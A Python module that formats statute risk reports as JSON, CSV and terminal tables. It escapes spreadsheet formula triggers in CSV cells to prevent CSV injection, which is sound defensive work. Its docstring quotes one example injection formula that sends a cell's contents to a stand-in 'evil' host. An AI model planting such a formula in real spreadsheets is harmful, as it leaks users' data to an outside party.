"""Statute report formats other than HTML: JSON, CSV and a terminal table.

Input: a statute report document (:func:`provrisk.score.report.score_ingested`).
Output: a string (JSON, CSV) or a rich renderable (table).

Every CSV provrisk writes passes each cell through :func:`spreadsheet_safe`:
a statute's words are not trusted, and a spreadsheet would run a cell such as
``=HYPERLINK("http://evil/?"&A1,"x")`` as a formula. Every string the table
shows from a statute or a file name is a :class:`~rich.text.Text`, which rich never reads as markup.
"""

from __future__ import annotations

import csv
import io
import json

from rich.table import Table
from rich.text import Text

# OWASP, "CSV Injection": a cell a spreadsheet may read as a formula starts with one of
# these (the fullwidth forms too: some spreadsheets fold them to ASCII).
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
CSV_COLUMNS = [
    "instrument_id", "citation", "kind", "heading", "label", "name", "probability", "evidence", "standard", "text",
    "annotations",
]


def report_json(document: dict) -> str:
    return json.dumps(document, ensure_ascii=False, indent=2) + "\n"


def spreadsheet_safe(cell):
    """A CSV cell that no spreadsheet reads as a formula: one whose first character, or first after
    leading spaces and line breaks, would start a formula gets a leading ``'`` (OWASP's advice).
    Anything but a string is returned as it is."""
    if isinstance(cell, str) and cell and (cell[0] in FORMULA_TRIGGERS or cell.lstrip(" \n\r\t")[:1] in FORMULA_TRIGGERS):
        return "'" + cell
    return cell


class _SafeDictWriter(csv.DictWriter):
    def writerow(self, rowdict):
        return super().writerow({key: spreadsheet_safe(value) for key, value in rowdict.items()})


def report_csv(document: dict) -> str:
    """One row per (provision, predicted label); a provision with no label gets one row with an empty label."""
    out = io.StringIO()
    writer = _SafeDictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\n")
    writer.writeheader()
    instrument_id = document["instrument"]["id"]
    for provision in document["provisions"]:
        base = {
            "instrument_id": instrument_id,
            "citation": provision["citation"],
            "kind": provision["kind"],
            "heading": provision["heading"],
            "text": provision["text"],
            "annotations": " | ".join(provision.get("annotations", [])),
        }
        if not provision["flags"]:
            writer.writerow({**base, "label": "", "name": "", "probability": "", "evidence": "", "standard": ""})
        for flag in provision["flags"]:
            writer.writerow(
                {
                    **base,
                    "label": flag["label"],
                    "name": flag["name"],
                    "probability": f"{flag['probability']:.3f}",
                    "evidence": " | ".join(flag["evidence"]),
                    "standard": flag["standard"],
                }
            )
    return out.getvalue()


def report_table(document: dict, show_unflagged: bool = False) -> Table:
    """One row per flag: citation, label, probability, quoted trigger words, the standard engaged."""
    instrument, profile = document["instrument"], document["profile"]
    title = (
        f"{instrument['source']}: {profile['flagged']} of {profile['provisions']} provisions flagged, "
        f"risk index {profile['risk_index']:.1f}/100"
    )
    table = Table(title=Text(title), expand=True)
    table.add_column("citation", no_wrap=True)
    table.add_column("label", ratio=2)
    table.add_column("p", justify="right", no_wrap=True)
    table.add_column("trigger words", ratio=3)
    table.add_column("standard engaged", ratio=4)
    for provision in document["provisions"]:
        if not provision["flags"]:
            if show_unflagged:
                table.add_row(Text(provision["citation"]), "–", "", "", "", end_section=True)
            continue
        for position, flag in enumerate(provision["flags"]):
            table.add_row(
                Text(provision["citation"]) if position == 0 else "",
                flag["label"],
                f"{flag['probability']:.2f}",
                Text("; ".join(f'"{quote}"' for quote in flag["evidence"][:3])),
                Text(flag["standard"]),
                end_section=position == len(provision["flags"]) - 1,
            )
    return table


def profile_table(document: dict) -> Table:
    """Counts per label over the statute."""
    profile = document["profile"]
    table = Table(title="statute profile")
    table.add_column("label")
    table.add_column("provisions", justify="right")
    for label in document["labels"]:
        table.add_row(label["id"], str(profile["label_counts"][label["id"]]))
    table.add_row("share flagged", f"{profile['share_flagged']:.0%}")
    table.add_row("risk index", f"{profile['risk_index']:.1f}")
    return table
